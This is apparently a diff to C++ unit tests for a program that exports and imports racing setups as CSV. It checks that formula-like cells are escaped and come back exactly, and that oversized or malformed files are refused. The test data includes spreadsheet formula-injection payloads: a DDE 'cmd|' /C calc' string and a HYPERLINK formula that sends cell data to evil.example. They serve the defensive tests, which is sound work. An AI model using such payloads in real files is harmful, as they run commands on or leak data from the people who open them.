@@ -38,6 +38,25 @@ std::vector<std::string> names(const std::vector<ImportProblem>& problems) {
     return out;
 }
 
+// Every setup a CSV hands on, with the count of the rows that hold none.
+struct ReadBack {
+    std::vector<CsvSetup> setups;
+    CsvRead read;
+};
+std::optional<ReadBack> readAll(std::string_view text, std::string& whyNot) {
+    ReadBack back;
+    const auto read = readCsv(
+        text,
+        [&](CsvSetup& s) {
+            back.setups.push_back(s);
+            return true;
+        },
+        whyNot);
+    if (!read) return std::nullopt;
+    back.read = *read;
+    return back;
+}
+
 // RFC 4180 read strictly: every record ends in CR LF, quotes only around a
 // whole field, a quote inside one doubled.
 std::vector<std::vector<std::string>> parseCsv(const std::string& text) {
@@ -217,10 +236,12 @@ TEST(SetupCsv, ExportsEverySetupExactlyAsRfc4180) {
     ASSERT_EQ(rows.size(), entries.size() + 1);
     std::vector<std::string> header = {"Created", "SetupType", "Sheet"};
     for (const auto key : SetupFieldKeys) header.emplace_back(key);
+    header.emplace_back("TextMark");
     EXPECT_EQ(rows[0], header);
     for (std::size_t i = 0; i < entries.size(); ++i) {
         std::vector<std::string> expected = {entries[i].created, entries[i].setupType, entries[i].sheet};
         for (const auto& v : entries[i].values) expected.push_back(platform::text::decode8Bit(v));
+        expected.emplace_back();
         EXPECT_EQ(rows[i + 1], expected) << i;
         for (const auto& field : rows[i + 1]) EXPECT_TRUE(platform::text::isValidUtf8(field));
     }
@@ -281,6 +302,7 @@ TEST(SetupCsv, ASeasonEditedInASpreadsheetComesBackOrSaysWhyNot) {
         std::size_t setups;      // read, when it is a setup CSV
         const char* firstValue;  // the first row's DriverName
         const char* whyNot;      // part of the reason, when it is none
+        std::size_t withoutSetup = 0;
     } cases[] = {
         {"semicolons, LF, unquoted, a byte order mark",
          "\xEF\xBB\xBFSetupType" + keys + "\nRDX" + row + "\n\nRDX" + row, 2, "v0", ""},
@@ -295,7 +317,7 @@ TEST(SetupCsv, ASeasonEditedInASpreadsheetComesBackOrSaysWhyNot) {
              }() +
              "\r\n\"say \"\"hi\"\"\",\"1:02.3\",RDX,\"Åsa, Lind\"\r\n",
          1, "Åsa, Lind", ""},
-        {"a row without setup type", "SetupType" + keys + "\n" + row, 1, "v0", ""},
+        {"a row without setup type", "SetupType" + keys + "\n" + row + "\nRDX" + row, 1, "v0", "", 1},
         {"a key missing", "SetupType;DriverName\nRDX;x\n", 0, "", "no column TrackCity"},
         {"no setup type", keys.substr(1) + "\n" + row.substr(1) + "\n", 0, "", "no column SetupType"},
         {"a quote never closed", "SetupType" + keys + "\nRDX;\"open" + row, 0, "", "never closed"},
@@ -303,30 +325,153 @@ TEST(SetupCsv, ASeasonEditedInASpreadsheetComesBackOrSaysWhyNot) {
     };
     for (const auto& c : cases) {
         std::string whyNot;
-        const auto setups = readCsv(c.text, whyNot);
+        const auto back = readAll(c.text, whyNot);
         if (*c.whyNot) {
-            EXPECT_FALSE(setups) << c.name;
+            EXPECT_FALSE(back) << c.name;
             EXPECT_NE(whyNot.find(c.whyNot), std::string::npos) << c.name << ": " << whyNot;
             continue;
         }
-        ASSERT_TRUE(setups) << c.name << ": " << whyNot;
-        ASSERT_EQ(setups->size(), c.setups) << c.name;
-        const CsvSetup& first = setups->front();
+        ASSERT_TRUE(back) << c.name << ": " << whyNot;
+        ASSERT_EQ(back->setups.size(), c.setups) << c.name;
+        const CsvSetup& first = back->setups.front();
         EXPECT_EQ(first.entry.values[std::size_t(vantrel::SetupField::DriverName)], c.firstValue) << c.name;
         EXPECT_TRUE(first.entry.created.empty()) << c.name;  // the importer gives the file's time
-        if (std::string(c.name) == "a row without setup type") {
-            EXPECT_EQ(first.problem, "row 2 names no SetupType");
-        } else {
-            EXPECT_EQ(first.problem, "") << c.name;
-        }
+        EXPECT_EQ(back->read.withoutSetup, c.withoutSetup) << c.name;
+        if (c.withoutSetup) EXPECT_EQ(back->read.firstWithoutSetup, 2u) << c.name;
     }
     // Rows count as a spreadsheet counts them, blank lines and broken ones too.
     std::string whyNot;
     const auto counted =
-        readCsv("SetupType" + keys + "\n\nRDX" + row + "\nRDX;\"two\nlines\"" + row.substr(3) + "\nRDX" + row, whyNot);
+        readAll("SetupType" + keys + "\n\nRDX" + row + "\nRDX;\"two\nlines\"" + row.substr(3) + "\nRDX" + row, whyNot);
     ASSERT_TRUE(counted);
     std::vector<std::size_t> rows;
-    for (const auto& s : *counted) rows.push_back(s.row);
+    for (const auto& s : counted->setups) rows.push_back(s.row);
     EXPECT_EQ(rows, (std::vector<std::size_t>{3, 4, 6}));
-    EXPECT_EQ(counted->at(1).entry.values[0], "two\nlines");
+    EXPECT_EQ(counted->setups.at(1).entry.values[0], "two\nlines");
+}
+
+TEST(SetupCsv, TextThatASpreadsheetWouldRunIsWrittenAsTextAndComesBackExactly) {
+    // How a cell stands in the file: marked where a spreadsheet would start a formula.
+    const struct {
+        const char* value;
+        const char* cell;
+    } cells[] = {
+        {"=1+2", "\"'=1+2\""},
+        {"@SUM(1+1)", "\"'@SUM(1+1)\""},
+        {"+1+cmd|' /C calc'!A0", "\"'+1+cmd|' /C calc'!A0\""},
+        {"-1+2", "\"'-1+2\""},
+        {"\t=1", "\"'\t=1\""},
+        {"\r\n=1", "\"'\r\n=1\""},
+        {"'", "\"''\""},
+        {"'=1", "\"''=1\""},
+        {"-", "\"'-\""},
+        {"-2.0", "\"-2.0\""},
+        {"+1", "\"+1\""},
+        {"-.5e-3", "\"-.5e-3\""},
+        {"-1e", "\"'-1e\""},
+        {"a=b", "\"a=b\""},
+        {" =1", "\" =1\""},
+    };
+    for (const auto& c : cells) EXPECT_EQ(csvField(c.value), c.cell) << c.value;
+
+    // Generated values of the same kinds, through a library and back: every one exactly.
+    testsupport::TempProgramFolder folder;
+    std::mt19937 rng(38);
+    static const char* const kHeads[] = {"", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=", " ", "\"", "-2"};
+    static const char* const kBodies[] = {"1+2", "HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "2.0", "",
+                                          "SUM(1+1)", "cmd|' /C calc'!A0", "5e3", ".5", "Zürich", ",;\r\n"};
+    auto hostile = [&](std::mt19937& r) {
+        std::uniform_int_distribution<std::size_t> head(0, std::size(kHeads) - 1), body(0, std::size(kBodies) - 1);
+        return std::string(kHeads[head(r)]) + kBodies[body(r)];
+    };
+    SetupLibrary library((folder.path() / "Library.sqlite").string());
+    for (int i = 0; i < 200; ++i) {
+        SetupEntry e = makeEntry(rng);
+        e.values = makeValues(rng, hostile);
+        e.setupType = "=" + hostile(rng);
+        e.sheet = i % 2 ? hostile(rng) + std::to_string(i) : "";  // one sheet is one setup
+        library.record(e);
+    }
+    const auto csv = folder.path() / "Library.csv";
+    exportCsv(library, csv.string());
+    const auto rows = parseCsv(testsupport::TempProgramFolder::readFile(csv));
+    for (std::size_t r = 1; r < rows.size(); ++r)
+        for (const std::string& cell : rows[r]) {
+            if (cell.empty()) continue;
+            EXPECT_EQ(std::string("=@\t\r\n").find(cell.front()), std::string::npos) << r << ": " << cell;
+            if (cell.front() == '+' || cell.front() == '-')
+                EXPECT_NE(cell.find_first_of("0123456789"), std::string::npos) << r << ": " << cell;
+        }
+
+    SetupLibrary other((folder.path() / "Other.sqlite").string());
+    const ImportReport report = importSetups(other, {csv.string()}, {});
+    EXPECT_TRUE(report.unreadable.empty() && report.notSetups.empty());
+    std::vector<StoredSetup> before, after;
+    library.forEachSetup([&](const StoredSetup& s) { before.push_back(s); });
+    other.forEachSetup([&](const StoredSetup& s) { after.push_back(s); });
+    ASSERT_EQ(after.size(), before.size());
+    for (std::size_t i = 0; i < before.size(); ++i) {
+        EXPECT_EQ(after[i].setupType, before[i].setupType) << i;
+        EXPECT_EQ(after[i].sheet, before[i].sheet) << i;
+        EXPECT_EQ(after[i].values, before[i].values) << i;
+    }
+}
+
+TEST(SetupCsv, AnExportMadeBeforeTheMarkImportsAsItStands) {
+    std::string header = "\"Created\",\"SetupType\",\"Sheet\"", row = "\"2026-05-01T10:00:00+02:00\",\"RDX\",\"\"";
+    for (std::size_t i = 0; i < SetupFieldCount; ++i) {
+        header += ",\"" + std::string(SetupFieldKeys[i]) + "\"";
+        row += i == 0 ? ",\"'quoted\"" : i == 1 ? ",\"''twice\"" : i == 2 ? ",\"'=1+2\"" : ",\"=3\"";
+    }
+    std::string whyNot;
+    const auto back = readAll(header + "\r\n" + row + "\r\n", whyNot);
+    ASSERT_TRUE(back) << whyNot;
+    ASSERT_EQ(back->setups.size(), 1u);
+    const vantrel::Setup& v = back->setups.front().entry.values;
+    EXPECT_EQ(v[0], "'quoted");
+    EXPECT_EQ(v[1], "''twice");
+    EXPECT_EQ(v[2], "'=1+2");
+    EXPECT_EQ(v[3], "=3");
+}
+
+TEST(SetupImport, ACsvOfNothingCostsOneLineAndAWideOrOpenOneIsRefusedWhole) {
+    std::string header = "Created,SetupType", row = ",RDX";
+    for (const auto key : SetupFieldKeys) header += "," + std::string(key);
+    for (std::size_t i = 0; i < SetupFieldCount; ++i) row += ",v" + std::to_string(i);
+    std::string rowsOfNothing = header + "\r\n";
+    for (int i = 0; i < 100000; ++i) rowsOfNothing += "R\r\n";
+    const struct {
+        const char* name;
+        std::string text;
+        std::size_t added;
+        const char* problem;  // part of the one line the report gives
+        bool refused;         // the file said to be no setup CSV
+    } cases[] = {
+        {"a hundred thousand rows of nothing", rowsOfNothing + row + "\r\n", 1,
+         "100,000 rows hold no setup (they name no SetupType; the first is row 2)", false},
+        {"one row of nothing", header + "\n" + row + "\nx,,y\n", 1, "row 3 holds no setup", false},
+        {"a row of 1,001 columns", header + "\n" + row + "\n" + std::string(1000, ',') + "\n", 0,
+         "row 3 has more than 1,000 columns", true},
+        {"a header of a million columns", header + std::string(1 << 20, ',') + "\n" + row + "\n", 0,
+         "row 1 has more than 1,000 columns", true},
+        {"a field of 65 KiB", header + "\n" + row + "\n,RDX," + std::string(65 * 1024, 'x') + "\n", 0,
+         "row 3 holds a field longer than 64 KiB", true},
+        {"a quote never closed", header + "\n" + row + "\n,RDX,\"" + std::string(1000, 'x'), 0,
+         "begins in row 3 is never closed", true},
+        {"a quote open through a large file", header + "\n" + row + "\n,RDX,\"" + std::string(100000, '\n'), 0,
+         "row 3 holds a quoted field longer than 64 KiB (is its closing quote missing?)", true},
+    };
+    for (const auto& c : cases) {
+        testsupport::TempProgramFolder folder;
+        SetupLibrary library((folder.path() / "Library.sqlite").string());
+        const auto csv = folder.write("hostile.csv", c.text);
+        const ImportReport report = importSetups(library, {csv.string()}, {});
+        EXPECT_EQ(report.added.size(), c.added) << c.name;
+        EXPECT_EQ(library.count(), c.added) << c.name;
+        const auto& problems = c.refused ? report.notSetups : report.unreadable;
+        ASSERT_EQ(problems.size(), 1u) << c.name;
+        EXPECT_EQ(report.notSetups.size() + report.unreadable.size(), 1u) << c.name;
+        EXPECT_EQ(problems.front().file, csv.string()) << c.name;
+        EXPECT_NE(problems.front().reason.find(c.problem), std::string::npos) << c.name << ": " << problems.front().reason;
+    }
 }
